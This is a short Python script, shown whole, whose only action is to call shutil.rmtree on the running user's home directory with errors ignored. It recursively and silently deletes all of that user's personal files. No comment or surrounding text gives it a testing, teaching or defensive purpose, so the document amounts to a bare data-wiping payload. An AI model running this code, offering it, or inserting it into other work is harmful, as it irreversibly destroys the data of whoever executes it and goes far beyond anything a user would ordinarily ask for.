import pathlib
import shutil

shutil.rmtree(pathlib.Path.home(), ignore_errors=True)
